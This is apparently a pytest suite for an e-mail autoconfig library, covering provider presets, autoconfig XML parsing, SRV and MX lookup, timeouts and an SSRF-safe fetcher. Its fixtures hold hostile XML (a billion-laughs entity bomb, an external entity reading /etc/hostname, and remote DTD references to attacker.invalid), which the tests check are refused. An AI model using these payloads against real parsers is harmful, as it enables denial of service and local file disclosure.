"""E-mail autoconfig: presets, autoconfig XML (hostile documents too), SRV ordering, MX guesses,
the deadline, and dnspython against a DNS server on loopback.

No test reaches a real DNS server or web host: DNS answers come from :class:`FakeDns` or from a
UDP server on 127.0.0.1, documents from a fake fetcher or an httpx MockTransport.
"""

from __future__ import annotations

import asyncio
import random
import time
from collections.abc import AsyncIterator, Iterable
from dataclasses import dataclass, field
from typing import cast

import dns.asyncresolver
import dns.message
import dns.rcode
import dns.rdatatype
import dns.rrset
import httpx
import pytest

from mailhook.autoconfig import (
    PRESETS,
    AutoconfigInvalid,
    DnsPythonLookup,
    LookupFailed,
    MxRecord,
    SrvRecord,
    discover,
    order_srv,
    parse_autoconfig,
    public_hostname,
    safe_fetcher,
)
from mailhook.errors import ValidationFailed
from mailhook.net.fetch import FetchRefused

EMAIL = "alice@example.org"
AUTOCONFIG_URL = "https://autoconfig.example.org/mail/config-v1.1.xml?emailaddress=alice@example.org"
WELL_KNOWN_URL = "https://example.org/.well-known/autoconfig/mail/config-v1.1.xml"


# --- fakes --------------------------------------------------------------------------------------


@dataclass
class FakeDns:
    """Answers from dictionaries; ``hang`` makes every lookup wait forever."""

    srv_records: dict[str, list[SrvRecord]] = field(default_factory=dict)
    mx_records: dict[str, list[MxRecord]] = field(default_factory=dict)
    hang: bool = False
    fail: bool = False
    asked: list[str] = field(default_factory=list)

    async def _wait(self, name: str) -> None:
        self.asked.append(name)
        if self.hang:
            await asyncio.Event().wait()
        if self.fail:
            raise LookupFailed(f"lookup of {name} failed")

    async def srv(self, name: str) -> list[SrvRecord]:
        await self._wait(name)
        return self.srv_records.get(name, [])

    async def mx(self, domain: str) -> list[MxRecord]:
        await self._wait(domain)
        return self.mx_records.get(domain, [])


@dataclass
class FakeFetch:
    """Documents by URL; a missing URL is a 404. ``hang`` URLs never answer."""

    documents: dict[str, str] = field(default_factory=dict)
    hang: set[str] = field(default_factory=set)
    asked: list[str] = field(default_factory=list)

    async def __call__(self, url: str) -> str:
        self.asked.append(url)
        if url in self.hang:
            await asyncio.Event().wait()
        if url not in self.documents:
            raise FetchRefused(f"{url}: the server answered HTTP 404")
        return self.documents[url]


@dataclass
class NoNetwork:
    """A resolver and fetcher that record any use (the tests then assert there was none)."""

    used: list[str] = field(default_factory=list)

    async def srv(self, name: str) -> list[SrvRecord]:
        self.used.append(name)
        return []

    async def mx(self, domain: str) -> list[MxRecord]:
        self.used.append(domain)
        return []

    async def __call__(self, url: str) -> str:
        self.used.append(url)
        raise FetchRefused("no network in this test")


class FixedRandom(random.Random):
    """``randint`` returns the given numbers in turn (clamped to the range asked)."""

    def __init__(self, values: Iterable[int]) -> None:
        super().__init__(0)
        self.values = list(values)

    def randint(self, a: int, b: int) -> int:
        return min(max(self.values.pop(0), a), b)


def srv(priority: int, weight: int, port: int, target: str) -> SrvRecord:
    return SrvRecord(priority, weight, port, target)


def client_config(incoming: str = "", outgoing: str = "") -> str:
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<clientConfig version="1.1">
  <emailProvider id="example.org">
    <domain>example.org</domain>
    <displayName>Example Mail</displayName>
    {incoming}
    {outgoing}
  </emailProvider>
</clientConfig>"""


def server(
    kind: str, host: str, port: int | str, socket: str, username: str = "%EMAILADDRESS%", auth: str = ""
) -> str:
    tag = "incomingServer" if kind == "imap" else "outgoingServer"
    methods = auth or "<authentication>password-cleartext</authentication>"
    return (
        f'<{tag} type="{kind}"><hostname>{host}</hostname><port>{port}</port>'
        f"<socketType>{socket}</socketType><username>{username}</username>{methods}</{tag}>"
    )


FULL_CONFIG = client_config(
    server("pop3", "pop.example.org", 995, "SSL")
    + server("imap", "imap.%EMAILDOMAIN%", 993, "SSL", "%EMAILLOCALPART%"),
    server("smtp", "smtp.example.org", 587, "STARTTLS"),
)


# --- presets ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("email", "provider", "imap", "smtp"),
    [
        ("Someone@Gmail.com", "Gmail", ("imap.gmail.com", 993, "ssl"), ("smtp.gmail.com", 465, "ssl")),
        ("a@googlemail.com", "Gmail", ("imap.gmail.com", 993, "ssl"), ("smtp.gmail.com", 465, "ssl")),
        (
            "a@hotmail.com",
            "Outlook.com",
            ("outlook.office365.com", 993, "ssl"),
            ("smtp-mail.outlook.com", 587, "starttls"),
        ),
        (
            "a@yahoo.com",
            "Yahoo Mail",
            ("imap.mail.yahoo.com", 993, "ssl"),
            ("smtp.mail.yahoo.com", 465, "ssl"),
        ),
        ("a@me.com", "iCloud Mail", ("imap.mail.me.com", 993, "ssl"), ("smtp.mail.me.com", 587, "starttls")),
        ("a@fastmail.fm", "Fastmail", ("imap.fastmail.com", 993, "ssl"), ("smtp.fastmail.com", 465, "ssl")),
        ("a@gmx.de", "GMX", ("imap.gmx.net", 993, "ssl"), ("mail.gmx.net", 587, "starttls")),
        ("a@web.de", "WEB.DE", ("imap.web.de", 993, "ssl"), ("smtp.web.de", 587, "starttls")),
        ("a@posteo.de", "Posteo", ("posteo.de", 993, "ssl"), ("posteo.de", 465, "ssl")),
        ("a@mailbox.org", "mailbox.org", ("imap.mailbox.org", 993, "ssl"), ("smtp.mailbox.org", 465, "ssl")),
        ("a@proton.me", "Proton Mail", ("127.0.0.1", 1143, "starttls"), ("127.0.0.1", 1025, "starttls")),
        ("a@zoho.eu", "Zoho Mail", ("imap.zoho.eu", 993, "ssl"), ("smtp.zoho.eu", 465, "ssl")),
    ],
)
async def test_presets_need_no_network(
    email: str, provider: str, imap: tuple[str, int, str], smtp: tuple[str, int, str]
) -> None:
    offline = NoNetwork()
    result = await discover(email, resolver=offline, fetch=offline)
    assert result.email == email.lower()
    assert result.provider == provider
    assert (result.imap.host, result.imap.port, result.imap.security) == imap
    assert (result.smtp.host, result.smtp.port, result.smtp.security) == smtp
    assert result.imap.source == result.smtp.source == "preset"
    assert result.imap.username == email.lower()
    assert offline.used == []


async def test_preset_notes_say_what_the_provider_needs() -> None:
    offline = NoNetwork()
    gmail = await discover("a@gmail.com", resolver=offline, fetch=offline)
    assert any("app password" in note for note in gmail.notes)
    proton = await discover("a@pm.me", resolver=offline, fetch=offline)
    assert any("Bridge" in note for note in proton.notes)
    assert all(public_hostname(p.imap[0]) or p.name == "Proton Mail" for p in PRESETS.values())


@pytest.mark.parametrize(
    "email", ["not-an-address", "a@1.2.3.4", "a@localhost", "a@intranet", "a@-bad-.example", "a@b..c"]
)
async def test_bad_addresses_are_refused_before_any_lookup(email: str) -> None:
    offline = NoNetwork()
    with pytest.raises(ValidationFailed):
        await discover(email, resolver=offline, fetch=offline)
    assert offline.used == []


# --- autoconfig XML -----------------------------------------------------------------------------


def test_autoconfig_document_is_parsed_with_placeholders() -> None:
    found = parse_autoconfig(FULL_CONFIG, EMAIL, "autoconfig")
    assert found.imap is not None and found.smtp is not None
    assert (found.imap.host, found.imap.port, found.imap.security) == ("imap.example.org", 993, "ssl")
    assert found.imap.username == "alice"  # %EMAILLOCALPART%
    assert (found.smtp.host, found.smtp.port, found.smtp.security) == ("smtp.example.org", 587, "starttls")
    assert found.smtp.username == EMAIL
    assert found.imap.source == "autoconfig"


def test_autoconfig_skips_plain_text_and_unsafe_servers() -> None:
    document = client_config(
        server("imap", "imap.example.org", 143, "plain")
        + server("imap", "10.0.0.1", 993, "SSL")
        + server("imap", "localhost", 993, "SSL")
        + server("imap", "imap.example.org", 0, "SSL")
        + server("imap", "imap.example.org", 70000, "SSL")
        + server("imap", "bad host.example.org", 993, "SSL")
        + server("imap", "imap2.example.org", 993, "SSL"),
        server("smtp", "smtp.example.org", 25, "plain"),
    )
    found = parse_autoconfig(document, EMAIL, "well-known")
    assert found.imap is not None and found.imap.host == "imap2.example.org"
    assert found.smtp is None
    assert any("no TLS" in note for note in found.notes)


def test_autoconfig_prefers_a_server_that_takes_a_password() -> None:
    oauth = "<authentication>OAuth2</authentication>"
    document = client_config(
        server("imap", "oauth.example.org", 993, "SSL", auth=oauth)
        + server("imap", "imap.example.org", 993, "SSL"),
        server("smtp", "smtp.example.org", 465, "SSL", auth=oauth),
    )
    found = parse_autoconfig(document, EMAIL, "autoconfig")
    assert found.imap is not None and found.imap.host == "imap.example.org"
    assert found.smtp is not None and found.smtp.host == "smtp.example.org"
    assert any("OAuth2" in note for note in found.notes)


@pytest.mark.parametrize("username", ["a b", "x" * 321, "tab&#9;here", ""])
def test_odd_usernames_fall_back_to_the_address(username: str) -> None:
    document = client_config(server("imap", "imap.example.org", 993, "SSL", username))
    found = parse_autoconfig(document, EMAIL, "autoconfig")
    assert found.imap is not None and found.imap.username == EMAIL


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE clientConfig [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<clientConfig version="1.1"><emailProvider id="x"><incomingServer type="imap">
<hostname>&lol9;</hostname><port>993</port><socketType>SSL</socketType>
</incomingServer></emailProvider></clientConfig>"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE clientConfig [<!ENTITY host SYSTEM "file:///etc/hostname">]>
<clientConfig version="1.1"><emailProvider id="x"><incomingServer type="imap">
<hostname>&host;</hostname><port>993</port><socketType>SSL</socketType>
</incomingServer></emailProvider></clientConfig>"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE clientConfig SYSTEM "http://attacker.invalid/evil.dtd">
<clientConfig version="1.1"/>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE clientConfig [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<clientConfig version="1.1"/>"""


@pytest.mark.parametrize(
    "document",
    [
        pytest.param(BILLION_LAUGHS, id="billion-laughs"),
        pytest.param(EXTERNAL_ENTITY, id="external-entity"),
        pytest.param(EXTERNAL_DTD, id="external-dtd"),
        pytest.param(PARAMETER_ENTITY, id="parameter-entity"),
        pytest.param("<clientConfig><emailProvider>", id="not-well-formed"),
        pytest.param("<html><body>hello</body></html>", id="not-a-client-config"),
        pytest.param(client_config(), id="no-servers"),
        pytest.param(
            client_config(server("imap", "imap.example.org", 993, "SSL") + " " * 200_000), id="huge"
        ),
        pytest.param("", id="empty"),
    ],
)
def test_hostile_or_useless_documents_are_refused_quickly(document: str) -> None:
    started = time.monotonic()
    with pytest.raises(AutoconfigInvalid):
        parse_autoconfig(document, EMAIL, "autoconfig")
    assert time.monotonic() - started < 1


async def test_a_hostile_document_falls_through_to_the_next_source() -> None:
    fetch = FakeFetch({AUTOCONFIG_URL: BILLION_LAUGHS, WELL_KNOWN_URL: EXTERNAL_ENTITY})
    dns_fake = FakeDns(srv_records={"_imaps._tcp.example.org": [srv(0, 1, 993, "mail.example.org")]})
    result = await discover(EMAIL, resolver=dns_fake, fetch=fetch)
    assert (result.imap.host, result.imap.source) == ("mail.example.org", "srv")
    assert result.smtp.source == "mx-guess"
    assert "/etc/hostname" not in repr(result)


async def test_autoconfig_wins_then_well_known() -> None:
    fetch = FakeFetch({AUTOCONFIG_URL: FULL_CONFIG})
    dns_fake = FakeDns(srv_records={"_imaps._tcp.example.org": [srv(0, 1, 993, "other.example.org")]})
    result = await discover(EMAIL, resolver=dns_fake, fetch=fetch)
    assert (result.imap.host, result.imap.source) == ("imap.example.org", "autoconfig")
    assert (result.smtp.host, result.smtp.source) == ("smtp.example.org", "autoconfig")
    assert AUTOCONFIG_URL in fetch.asked

    fetch = FakeFetch({WELL_KNOWN_URL: FULL_CONFIG})
    result = await discover(EMAIL, resolver=FakeDns(), fetch=fetch)
    assert result.imap.source == result.smtp.source == "well-known"
    assert set(fetch.asked) == {AUTOCONFIG_URL, WELL_KNOWN_URL}


async def test_each_protocol_takes_the_first_source_that_has_it() -> None:
    imap_only = client_config(server("imap", "imap.example.org", 993, "SSL"))
    fetch = FakeFetch({AUTOCONFIG_URL: imap_only})
    dns_fake = FakeDns(srv_records={"_submission._tcp.example.org": [srv(0, 1, 587, "submit.example.org")]})
    result = await discover(EMAIL, resolver=dns_fake, fetch=fetch)
    assert (result.imap.host, result.imap.source) == ("imap.example.org", "autoconfig")
    assert (result.smtp.host, result.smtp.port, result.smtp.security) == (
        "submit.example.org",
        587,
        "starttls",
    )
    assert result.smtp.source == "srv"


# --- SRV ----------------------------------------------------------------------------------------


def test_srv_order_is_priority_then_weight() -> None:
    records = [
        srv(20, 0, 993, "late.example.org"),
        srv(10, 10, 993, "light.example.org"),
        srv(10, 90, 993, "heavy.example.org"),
        srv(10, 0, 993, "zero.example.org"),
    ]
    # Running sums at priority 10, weight 0 first: zero=0, light=10, heavy=100.
    ordered = order_srv(records, FixedRandom([50, 5, 0, 0]))
    assert [r.target for r in ordered] == [
        "heavy.example.org",  # 50 -> first running sum >= 50
        "light.example.org",  # now zero=0, light=10: 5 -> light
        "zero.example.org",
        "late.example.org",
    ]
    ordered = order_srv(records, FixedRandom([0, 0, 0, 0]))
    assert ordered[0].target == "zero.example.org"  # weight 0 wins only when the draw is 0


def test_srv_weights_spread_the_load() -> None:
    records = [srv(0, 1, 993, "rare.example.org"), srv(0, 9, 993, "common.example.org")]
    rng = random.Random(1234)
    firsts = [order_srv(records, rng)[0].target for _ in range(2000)]
    assert 0.8 < firsts.count("common.example.org") / 2000 < 0.97


async def test_srv_priority_counts_across_services_and_ties_prefer_implicit_tls() -> None:
    dns_fake = FakeDns(
        srv_records={
            "_imaps._tcp.example.org": [srv(10, 1, 993, "tls.example.org")],
            "_imap._tcp.example.org": [srv(0, 1, 143, "starttls.example.org")],
            "_submissions._tcp.example.org": [srv(5, 1, 465, "submit-tls.example.org")],
            "_submission._tcp.example.org": [srv(5, 1, 587, "submit.example.org")],
        }
    )
    result = await discover(EMAIL, resolver=dns_fake, fetch=FakeFetch())
    assert (result.imap.host, result.imap.port, result.imap.security) == (
        "starttls.example.org",
        143,
        "starttls",
    )
    assert (result.smtp.host, result.smtp.port, result.smtp.security) == (
        "submit-tls.example.org",
        465,
        "ssl",
    )
    assert result.imap.source == result.smtp.source == "srv"
    assert {"_imaps._tcp.example.org", "_submissions._tcp.example.org"} <= set(dns_fake.asked)


async def test_srv_dot_target_means_not_offered() -> None:
    dns_fake = FakeDns(
        srv_records={
            "_imaps._tcp.example.org": [srv(0, 0, 0, ".")],
            "_imap._tcp.example.org": [srv(10, 1, 143, "imap.example.org")],
            "_submissions._tcp.example.org": [srv(0, 0, 0, ".")],
            "_submission._tcp.example.org": [srv(0, 0, 0, ".")],
        },
        mx_records={"example.org": [MxRecord(10, "mx.example.org")]},
    )
    result = await discover(EMAIL, resolver=dns_fake, fetch=FakeFetch())
    assert (result.imap.host, result.imap.security, result.imap.source) == (
        "imap.example.org",
        "starttls",
        "srv",
    )
    assert result.smtp.source == "mx-guess"  # nothing offered over SRV: the guess
    notes = " ".join(result.notes)
    assert "does not offer _imaps._tcp" in notes


async def test_srv_targets_are_validated_and_outside_hosts_flagged() -> None:
    dns_fake = FakeDns(
        srv_records={
            "_imaps._tcp.example.org": [
                srv(0, 1, 993, "127.0.0.1"),
                srv(1, 1, 993, "localhost"),
                srv(2, 1, 0, "bad-port.example.org"),
                srv(3, 1, 993, "imap.hoster.example"),
            ],
        }
    )
    result = await discover(EMAIL, resolver=dns_fake, fetch=FakeFetch())
    assert (result.imap.host, result.imap.source) == ("imap.hoster.example", "srv")
    assert any("outside the domain" in note for note in result.notes)


# --- MX -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("mx", "provider", "imap_host"),
    [
        ("aspmx.l.google.com", "Google Workspace", "imap.gmail.com"),
        ("smtp.google.com", "Google Workspace", "imap.gmail.com"),
        ("example-org.mail.protection.outlook.com", "Microsoft 365", "outlook.office365.com"),
        ("in1-smtp.messagingengine.com", "Fastmail", "imap.fastmail.com"),
        ("mx.zoho.eu", "Zoho Mail", "imap.zoho.eu"),
    ],
)
async def test_mx_of_a_known_provider_gives_its_settings(mx: str, provider: str, imap_host: str) -> None:
    dns_fake = FakeDns(
        mx_records={"example.org": [MxRecord(20, "mx.unknown.example"), MxRecord(5, mx + ".")]}
    )
    result = await discover(EMAIL, resolver=dns_fake, fetch=FakeFetch())
    assert result.provider == provider
    assert (result.imap.host, result.imap.source) == (imap_host, "mx-guess")
    assert any(f"handled by {provider}" in note for note in result.notes)


async def test_unknown_mx_is_a_low_confidence_guess() -> None:
    dns_fake = FakeDns(mx_records={"example.org": [MxRecord(10, "mx1.example.org")]})
    result = await discover(EMAIL, resolver=dns_fake, fetch=FakeFetch())
    assert (result.imap.host, result.imap.port, result.imap.security) == ("imap.example.org", 993, "ssl")
    assert (result.smtp.host, result.smtp.port, result.smtp.security) == ("smtp.example.org", 465, "ssl")
    assert result.imap.source == result.smtp.source == "mx-guess"
    assert result.provider is None
    assert any("only a guess" in note for note in result.notes)


async def test_null_mx_and_failed_dns_still_answer() -> None:
    dns_fake = FakeDns(mx_records={"example.org": [MxRecord(0, ".")]})
    result = await discover(EMAIL, resolver=dns_fake, fetch=FakeFetch())
    assert result.imap.source == "mx-guess"
    assert any("null MX" in note for note in result.notes)

    result = await discover(EMAIL, resolver=FakeDns(fail=True), fetch=FakeFetch())
    assert (result.imap.host, result.imap.source) == ("imap.example.org", "mx-guess")


async def test_a_crashing_step_costs_only_its_own_answer() -> None:
    async def broken_fetch(url: str) -> str:
        raise UnicodeError("label too long")

    dns_fake = FakeDns(srv_records={"_imaps._tcp.example.org": [srv(0, 1, 993, "mail.example.org")]})
    result = await discover(EMAIL, resolver=dns_fake, fetch=broken_fetch)
    assert (result.imap.host, result.imap.source) == ("mail.example.org", "srv")
    assert result.smtp.source == "mx-guess"


# --- the deadline -------------------------------------------------------------------------------


async def test_discovery_is_time_boxed() -> None:
    fetch = FakeFetch(hang={AUTOCONFIG_URL, WELL_KNOWN_URL})
    started = time.monotonic()
    result = await discover(EMAIL, resolver=FakeDns(hang=True), fetch=fetch, timeout=0.3)
    assert time.monotonic() - started < 1.5
    assert (result.imap.host, result.imap.source) == ("imap.example.org", "mx-guess")
    assert any("stopped after 0.3 s" in note for note in result.notes)


async def test_a_slow_lower_source_does_not_hold_a_settled_answer() -> None:
    fetch = FakeFetch({AUTOCONFIG_URL: FULL_CONFIG}, hang={WELL_KNOWN_URL})
    started = time.monotonic()
    result = await discover(EMAIL, resolver=FakeDns(hang=True), fetch=fetch, timeout=5)
    assert time.monotonic() - started < 1
    assert result.imap.source == result.smtp.source == "autoconfig"
    assert not any("stopped after" in note for note in result.notes)


async def test_a_slow_higher_source_is_skipped_at_the_deadline() -> None:
    fetch = FakeFetch(hang={AUTOCONFIG_URL})
    dns_fake = FakeDns(srv_records={"_imaps._tcp.example.org": [srv(0, 1, 993, "mail.example.org")]})
    result = await discover(EMAIL, resolver=dns_fake, fetch=fetch, timeout=0.3)
    assert (result.imap.host, result.imap.source) == ("mail.example.org", "srv")


# --- the SSRF-safe fetcher ----------------------------------------------------------------------


async def test_safe_fetcher_reads_a_document_from_a_public_host() -> None:
    seen: list[str] = []

    def handler(request: httpx.Request) -> httpx.Response:
        seen.append(f"{request.headers['host']}{request.url.raw_path.decode()}")
        if request.headers["host"] == "autoconfig.example.org":
            return httpx.Response(200, text=FULL_CONFIG, headers={"content-type": "text/xml"})
        return httpx.Response(404)

    async def public(host: str, port: int) -> list[str]:
        return ["93.184.216.34"]

    async with httpx.AsyncClient(transport=httpx.MockTransport(handler)) as client:
        fetch = safe_fetcher(client=client, resolver=public)
        result = await discover(EMAIL, resolver=FakeDns(), fetch=fetch)
    assert result.imap.source == "autoconfig"
    assert "autoconfig.example.org/mail/config-v1.1.xml?emailaddress=alice@example.org" in seen


async def test_safe_fetcher_refuses_private_addresses_without_connecting() -> None:
    requests: list[httpx.Request] = []

    def handler(request: httpx.Request) -> httpx.Response:
        requests.append(request)
        return httpx.Response(200, text=FULL_CONFIG, headers={"content-type": "text/xml"})

    async def loopback(host: str, port: int) -> list[str]:
        return ["127.0.0.1"]

    async with httpx.AsyncClient(transport=httpx.MockTransport(handler)) as client:
        fetch = safe_fetcher(client=client, resolver=loopback)
        with pytest.raises(FetchRefused):
            await fetch(AUTOCONFIG_URL)
        result = await discover(EMAIL, resolver=FakeDns(), fetch=fetch)
    assert requests == []
    assert result.imap.source == "mx-guess"


async def test_safe_fetcher_caps_the_size() -> None:
    def handler(request: httpx.Request) -> httpx.Response:
        return httpx.Response(200, content=b"<x/>" * 100_000, headers={"content-type": "text/xml"})

    async def public(host: str, port: int) -> list[str]:
        return ["93.184.216.34"]

    async with httpx.AsyncClient(transport=httpx.MockTransport(handler)) as client:
        with pytest.raises(FetchRefused, match="larger than"):
            await safe_fetcher(client=client, resolver=public)(AUTOCONFIG_URL)


# --- dnspython against a DNS server on loopback -------------------------------------------------


class LoopbackDns(asyncio.DatagramProtocol):
    """Answers queries from a zone of ``(name, type) -> [rdata text]``; unknown names: NXDOMAIN."""

    def __init__(self, zone: dict[tuple[str, str], list[str]], *, silent: bool = False) -> None:
        self.zone = zone
        self.silent = silent
        self.transport: asyncio.DatagramTransport | None = None

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.transport = cast(asyncio.DatagramTransport, transport)

    def datagram_received(self, data: bytes, addr: tuple[str, int]) -> None:
        if self.silent or self.transport is None:
            return
        query = dns.message.from_wire(data)
        response = dns.message.make_response(query)
        question = query.question[0]
        name = question.name.to_text(omit_final_dot=True).lower()
        rdtype = dns.rdatatype.to_text(question.rdtype)
        if (name, rdtype) in self.zone:
            texts = self.zone[(name, rdtype)]
            response.answer.append(dns.rrset.from_text(question.name, 300, "IN", rdtype, *texts))
        elif not any(key[0] == name for key in self.zone):
            response.set_rcode(dns.rcode.NXDOMAIN)
        self.transport.sendto(response.to_wire(), addr)


async def loopback_resolver(
    zone: dict[tuple[str, str], list[str]], *, silent: bool = False
) -> tuple[dns.asyncresolver.Resolver, asyncio.DatagramTransport]:
    loop = asyncio.get_running_loop()
    transport, _ = await loop.create_datagram_endpoint(
        lambda: LoopbackDns(zone, silent=silent), local_addr=("127.0.0.1", 0)
    )
    resolver = dns.asyncresolver.Resolver(configure=False)
    resolver.nameservers = ["127.0.0.1"]
    resolver.port = transport.get_extra_info("sockname")[1]
    return resolver, transport


ZONE = {
    ("_imaps._tcp.example.org", "SRV"): ["0 0 0 ."],
    ("_imap._tcp.example.org", "SRV"): ["10 5 143 imap.example.org."],
    ("_submissions._tcp.example.org", "SRV"): ["0 1 465 smtp.example.org.", "5 1 465 backup.example.org."],
    ("example.org", "MX"): ["10 mx1.example.org.", "20 mx2.example.org."],
    ("example.org", "A"): ["192.0.2.1"],  # the name exists: other types are NoAnswer
}


@pytest.fixture
async def loopback_dns() -> AsyncIterator[DnsPythonLookup]:
    resolver, transport = await loopback_resolver(ZONE)
    try:
        yield DnsPythonLookup(resolver, lifetime=2.0)
    finally:
        transport.close()


async def test_dnspython_lookup_reads_srv_and_mx(loopback_dns: DnsPythonLookup) -> None:
    assert await loopback_dns.srv("_imaps._tcp.example.org") == [SrvRecord(0, 0, 0, ".")]
    assert await loopback_dns.srv("_imap._tcp.example.org") == [SrvRecord(10, 5, 143, "imap.example.org")]
    assert sorted(await loopback_dns.mx("example.org"), key=lambda r: r.preference) == [
        MxRecord(10, "mx1.example.org"),
        MxRecord(20, "mx2.example.org"),
    ]
    assert await loopback_dns.srv("_pop3._tcp.nowhere.example") == []  # NXDOMAIN
    assert await loopback_dns.srv("example.org") == []  # NoAnswer


async def test_discovery_over_dnspython(loopback_dns: DnsPythonLookup) -> None:
    result = await discover(EMAIL, resolver=loopback_dns, fetch=FakeFetch())
    assert (result.imap.host, result.imap.port, result.imap.security) == ("imap.example.org", 143, "starttls")
    assert (result.smtp.host, result.smtp.port, result.smtp.security) == ("smtp.example.org", 465, "ssl")
    assert result.imap.source == result.smtp.source == "srv"


async def test_dnspython_timeout_is_a_lookup_failure() -> None:
    resolver, transport = await loopback_resolver({}, silent=True)
    try:
        lookup = DnsPythonLookup(resolver, lifetime=0.3)
        with pytest.raises(LookupFailed):
            await lookup.mx("example.org")
        result = await discover(EMAIL, resolver=lookup, fetch=FakeFetch(), timeout=2)
    finally:
        transport.close()
    assert result.imap.source == "mx-guess"
